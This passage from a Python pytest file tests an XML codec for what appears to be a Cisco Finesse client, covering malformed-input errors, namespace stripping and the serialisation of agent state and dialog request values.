        "   \n",
        b"",
    ],
)
def test_malformed_or_empty_input_raises(data: str | bytes) -> None:
    with pytest.raises(FinesseXmlError):
        parse_xml(data)


def test_finesse_xml_error_is_a_value_error() -> None:
    assert issubclass(FinesseXmlError, ValueError)
    assert codec.FinesseXmlError is FinesseXmlError


def test_local_strips_namespaces() -> None:
    assert local("{http://jabber.org/protocol/pubsub}notification") == "notification"
    assert local("Update") == "Update"
    root = parse_xml("<a xmlns='urn:x'><b xmlns='urn:y'><c/></b></a>")
    assert [el.tag for el in root.iter()] == ["a", "b", "c"]


def test_enum_and_int_values_are_written_as_their_text() -> None:
    user = User(login_id="1", state=AgentState.READY, reason_code_id=-1)  # type: ignore[arg-type]
    xml = user_to_xml(user)
    assert "<state>READY</state>" in xml
    assert "<reasonCodeId>-1</reasonCodeId>" in xml
    request = DialogRequest(requested_action=Action.ANSWER, target_media_address="5001")
    assert "<requestedAction>ANSWER</requestedAction>" in dialog_request_to_xml(request)
